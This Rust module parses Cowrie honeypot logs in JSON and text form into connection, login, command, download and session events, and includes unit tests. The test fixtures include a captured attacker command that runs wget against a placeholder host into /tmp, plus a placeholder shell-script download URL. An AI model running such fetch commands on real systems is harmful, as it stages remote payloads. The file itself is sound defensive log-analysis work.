//! Cowrie honeypot JSON lines (`cowrie.json`), old and new releases.
//!
//! Events used: `session.connect`, `login.failed`, `login.success`,
//! `command.input` (and `command.failed`), `session.file_download`,
//! `session.closed`. Every other event id is known noise. The session length
//! of `session.closed` comes in three forms: `duration` as float seconds
//! (old), `duration_ms` as an integer (new), or either as a string.

use std::borrow::Cow;
use std::net::IpAddr;

use serde::Deserialize;

use super::{parse_ip, parse_ip_port, split_once_str, syslog, AuthMethod, Event};
use crate::error::{Error, Result};

/// One Cowrie event, read.
#[derive(Debug, Clone, PartialEq)]
pub struct Record<'a> {
    /// The event id, e.g. `cowrie.login.success`.
    pub event_id: Cow<'a, str>,
    /// Event time, unix milliseconds (Cowrie writes UTC).
    pub ts_ms: Option<i64>,
    /// Cowrie's session id: keys the session.
    pub session: Option<Cow<'a, str>>,
    /// Attacker address.
    pub ip: Option<IpAddr>,
    /// `ssh` or `telnet`, when the event says.
    pub protocol: Option<Cow<'a, str>>,
    /// What it means; `None` for an event id this parser does not know
    /// (the caller counts it by [`Record::event_id`]).
    pub event: Option<Event<'a>>,
}

#[derive(Deserialize)]
#[serde(untagged)]
enum Number<'a> {
    Float(f64),
    #[serde(borrow)]
    Text(Cow<'a, str>),
}

impl Number<'_> {
    fn secs(&self, unit_ms: bool) -> Option<f64> {
        let (value, ms) = match self {
            Number::Float(f) => (*f, unit_ms),
            Number::Text(t) => {
                let t = t.trim();
                if let Some(v) = t.strip_suffix("ms") {
                    (v.trim().parse().ok()?, true)
                } else if let Some(v) = t.strip_suffix('s') {
                    (v.trim().parse().ok()?, false)
                } else {
                    (t.parse().ok()?, unit_ms)
                }
            }
        };
        let secs = if ms { value / 1000.0 } else { value };
        (secs.is_finite() && secs >= 0.0).then_some(secs)
    }
}

#[derive(Deserialize)]
struct Raw<'a> {
    #[serde(borrow)]
    eventid: Cow<'a, str>,
    #[serde(borrow, default)]
    timestamp: Option<Cow<'a, str>>,
    #[serde(borrow, default)]
    session: Option<Cow<'a, str>>,
    #[serde(borrow, default)]
    src_ip: Option<Cow<'a, str>>,
    #[serde(borrow, default)]
    protocol: Option<Cow<'a, str>>,
    #[serde(borrow, default)]
    username: Option<Cow<'a, str>>,
    #[serde(borrow, default)]
    input: Option<Cow<'a, str>>,
    #[serde(borrow, default)]
    url: Option<Cow<'a, str>>,
    #[serde(borrow, default)]
    destfile: Option<Cow<'a, str>>,
    #[serde(borrow, default)]
    duration: Option<Number<'a>>,
    #[serde(borrow, default)]
    duration_ms: Option<Number<'a>>,
}

/// Parses one Cowrie JSON line; a line that is not a JSON object with a
/// string `eventid` is an error.
pub fn parse(line: &str) -> Result<Record<'_>> {
    let raw: Raw<'_> =
        serde_json::from_str(line).map_err(|e| Error::LogRecord { format: "cowrie", detail: e.to_string() })?;
    let ts_ms = raw
        .timestamp
        .as_deref()
        .and_then(|t| syslog::parse_rfc3339(t))
        .map(|(t, _)| t.to_unix_ms(t.year.unwrap_or(1970), 0));
    let ip = raw.src_ip.as_deref().and_then(parse_ip);
    let id = raw.eventid.as_ref();
    let event = Some(match id.strip_prefix("cowrie.").unwrap_or(id) {
        "session.connect" => ip.map_or(Event::Noise, |ip| Event::Connected { ip }),
        "login.failed" => Event::AuthFailed { user: raw.username, ip, invalid_user: false, count: 1, tentative: false },
        "login.success" => {
            Event::Accepted { user: raw.username.unwrap_or(Cow::Borrowed("")), ip, method: AuthMethod::Password }
        }
        "command.input" => match raw.input {
            Some(input) => Event::Command { user: None, tty: None, command: input },
            None => Event::Noise,
        },
        // Telnet "redir" saves name the file written, not a URL.
        "session.file_download" => Event::Download { url: raw.url.or(raw.destfile).unwrap_or_default() },
        "session.closed" => Event::SessionClosed {
            user: None,
            duration_secs: raw
                .duration_ms
                .as_ref()
                .and_then(|d| d.secs(true))
                .or_else(|| raw.duration.as_ref().and_then(|d| d.secs(false))),
        },
        // command.failed repeats a command.input; the rest describe the client.
        "command.failed"
        | "command.success"
        | "client.version"
        | "client.kex"
        | "client.size"
        | "client.var"
        | "client.fingerprint"
        | "direct-tcpip.request"
        | "direct-tcpip.data"
        | "log.open"
        | "log.closed"
        | "session.params"
        | "session.file_download.failed"
        | "session.file_upload"
        | "session.input"
        | "telnet.option"
        | "login.attempt"
        | "virustotal.scanfile"
        | "virustotal.scanurl" => Event::Noise,
        _ => {
            return Ok(Record {
                event_id: raw.eventid,
                ts_ms,
                session: raw.session,
                ip,
                protocol: raw.protocol,
                event: None,
            })
        }
    });
    Ok(Record { event_id: raw.eventid, ts_ms, session: raw.session, ip, protocol: raw.protocol, event })
}

/// Reads one message of Cowrie's text log (`cowrie.log`, Twisted's format), as the
/// header reader gives it (program `twistd`, the transport number as pid):
/// `[SSHService 'ssh-userauth' on HoneyPotSSHTransport,3261,145.239.65.62] login attempt [mailman/123456] failed`.
/// The address is the context's (`...Transport,N,ADDR`); `None` for a message it does not know.
pub fn parse_text(msg: &str) -> Option<Event<'_>> {
    let rest = msg.strip_prefix('[')?;
    let (context, text) = split_once_str(rest, "] ").or_else(|| rest.strip_suffix(']').map(|c| (c, "")))?;
    let ip = split_once_str(context, "Transport,").and_then(|(_, t)| t.split(',').nth(1)).and_then(parse_ip);
    if let Some(addr) = text.strip_prefix("New connection: ") {
        let (addr, _) = addr.split_once(' ').unwrap_or((addr, ""));
        return parse_ip_port(addr).map(|ip| Event::Connected { ip });
    }
    if let Some(attempt) = text.strip_prefix("login attempt [") {
        let (credentials, outcome) = attempt.rsplit_once("] ")?;
        let user = credentials.split_once('/').map_or(credentials, |(u, _)| u);
        // Python 3 releases of 2018-2019 wrote bytes: [b'root'/b'admin'].
        let user = user.strip_prefix("b'").and_then(|u| u.strip_suffix('\'')).unwrap_or(user);
        return match outcome {
            "failed" => Some(Event::AuthFailed {
                user: Some(Cow::Borrowed(user)),
                ip,
                invalid_user: false,
                count: 1,
                tentative: false,
            }),
            "succeeded" => Some(Event::Accepted { user: Cow::Borrowed(user), ip, method: AuthMethod::Password }),
            _ => None,
        };
    }
    if let Some(command) = text.strip_prefix("CMD: ") {
        return Some(Event::Command { user: None, tty: None, command: Cow::Borrowed(command) });
    }
    if let Some(secs) = text.strip_prefix("Connection lost after ").and_then(|t| t.strip_suffix(" seconds")) {
        let secs: f64 = secs.parse().ok()?;
        return Some(Event::SessionClosed { user: None, duration_secs: Some(secs) });
    }
    if let Some(url) = text.strip_prefix("Downloaded URL (") {
        return Some(Event::Download { url: Cow::Borrowed(url.split_once(')').map_or(url, |(u, _)| u)) });
    }
    const NOISE: [&str; 30] = [
        "No moduli",
        "Remote SSH version",
        "kex alg",
        "outgoing:",
        "incoming:",
        "NEW KEYS",
        "starting service",
        "connection lost",
        "Got remote error",
        "avatar ",
        "got global",
        "got channel",
        "direct-tcp connection request",
        "discarded direct-tcp",
        "failed to connect",
        "sending close",
        "sending request",
        "remote close",
        "channel open",
        "executing command",
        "Opening TTY Log",
        "Closing TTY Log",
        "Command found",
        "Command not found",
        "exitCode",
        "received eof",
        "Received CTRL-D",
        "unauthorized login",
        "Terminal Size",
        "getting shell",
    ];
    // "'root' trying auth 'password'", "'root' failed auth 'password'", "'root' authenticated with 'password'".
    let auth_step = text.starts_with('\'')
        && [" trying auth ", " failed auth ", " authenticated with "].iter().any(|w| text.contains(w));
    (auth_step || NOISE.iter().any(|n| text.starts_with(n))).then_some(Event::Noise)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_the_three_duration_forms() {
        let old = r#"{"eventid": "cowrie.session.closed", "timestamp": "2018-05-19T00:03:10.120213Z", "src_ip": "145.239.65.62", "duration": 1.2905828952789307, "session": "524e0ff18104"}"#;
        let new = r#"{"eventid":"cowrie.session.closed","duration_ms":8486,"timestamp":"2026-07-10T01:01:45.568278Z","src_ip":"122.36.187.5","session":"3e69b5b3b281","protocol":"telnet"}"#;
        let text = r#"{"eventid":"cowrie.session.closed","duration":"12.5","session":"s"}"#;
        let text_ms = r#"{"eventid":"cowrie.session.closed","duration_ms":"250","session":"s"}"#;
        let secs = |l| match parse(l).unwrap().event.unwrap() {
            Event::SessionClosed { duration_secs, .. } => duration_secs,
            e => panic!("{e:?}"),
        };
        assert!((secs(old).unwrap() - 1.29058).abs() < 1e-4);
        assert_eq!(secs(new), Some(8.486));
        assert_eq!(secs(text), Some(12.5));
        assert_eq!(secs(text_ms), Some(0.25));
        let r = parse(old).unwrap();
        assert_eq!(r.ts_ms, Some(1_526_688_190_120));
        assert_eq!(r.session.as_deref(), Some("524e0ff18104"));
        assert_eq!(
            parse(r#"{"eventid":"cowrie.session.closed","duration":-3}"#).unwrap().event,
            Some(Event::SessionClosed { user: None, duration_secs: None })
        );
    }

    #[test]
    fn logins_commands_downloads() {
        let r = parse(
            r#"{"eventid":"cowrie.login.success","username":"root","password":"x","src_ip":"1.2.3.4","session":"a"}"#,
        )
        .unwrap();
        assert_eq!(
            r.event,
            Some(Event::Accepted { user: "root".into(), ip: "1.2.3.4".parse().ok(), method: AuthMethod::Password })
        );
        let r = parse(r#"{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://x/\"a\"","session":"a"}"#)
            .unwrap();
        assert_eq!(
            r.event.unwrap(),
            Event::Command { user: None, tty: None, command: "cd /tmp; wget http://x/\"a\"".into() }
        );
        let r = parse(r#"{"eventid":"cowrie.session.file_download","url":"http://x/a.sh","session":"a"}"#).unwrap();
        assert_eq!(r.event.unwrap(), Event::Download { url: "http://x/a.sh".into() });
        assert!(matches!(
            parse(r#"{"eventid":"cowrie.login.failed","username":"admin","src_ip":"::1"}"#).unwrap().event,
            Some(Event::AuthFailed { .. })
        ));
        assert_eq!(parse(r#"{"eventid":"cowrie.brand.new"}"#).unwrap().event, None);
        assert!(parse("{not json").unwrap_err().to_string().starts_with("cowrie record: "));
        assert!(parse(r#"{"eventid": 3}"#).is_err());
    }

    #[test]
    fn reads_cowries_text_log() {
        // Verbatim (kareiva/cowrie-logs, cowrie.log.2018-05-19; logs/testdata/unseen/kareiva-cowrie.log).
        let ip = "145.239.65.62".parse().ok();
        assert_eq!(
            parse_text("[cowrie.ssh.factory.CowrieSSHFactory] New connection: 145.239.65.62:50540 (172.17.0.3:2222) [session: 524e0ff18104]"),
            Some(Event::Connected { ip: ip.unwrap() })
        );
        assert_eq!(
            parse_text("[SSHService 'ssh-userauth' on HoneyPotSSHTransport,3261,145.239.65.62] login attempt [mailman/123456] failed"),
            Some(Event::AuthFailed { user: Some("mailman".into()), ip, invalid_user: false, count: 1, tentative: false })
        );
        assert_eq!(
            parse_text("[SSHService 'ssh-userauth' on HoneyPotSSHTransport,3358,115.75.221.229] login attempt [root/] succeeded"),
            Some(Event::Accepted { user: "root".into(), ip: "115.75.221.229".parse().ok(), method: AuthMethod::Password })
        );
        assert_eq!(
            parse_text("[SSHChannel session (0) on SSHService 'ssh-connection' on HoneyPotSSHTransport,3359,115.75.221.229] CMD: cat /bin/ls"),
            Some(Event::Command { user: None, tty: None, command: "cat /bin/ls".into() })
        );
        assert_eq!(
            parse_text("[HoneyPotSSHTransport,3263,194.63.141.141] Connection lost after 19 seconds"),
            Some(Event::SessionClosed { user: None, duration_secs: Some(19.0) })
        );
        for noise in [
            "[-] 'mailman' failed auth 'password'",
            "[-] unauthorized login: ",
            "[HoneyPotSSHTransport,3263,194.63.141.141] avatar root logging out",
            "[SSHService 'ssh-userauth' on HoneyPotSSHTransport,3263,194.63.141.141] 'root' trying auth 'keyboard-interactive'",
        ] {
            assert_eq!(parse_text(noise), Some(Event::Noise), "{noise}");
        }
        assert_eq!(parse_text("[HoneyPotSSHTransport,1,1.2.3.4] something new"), None);
        assert_eq!(parse_text("no context"), None);
    }
}
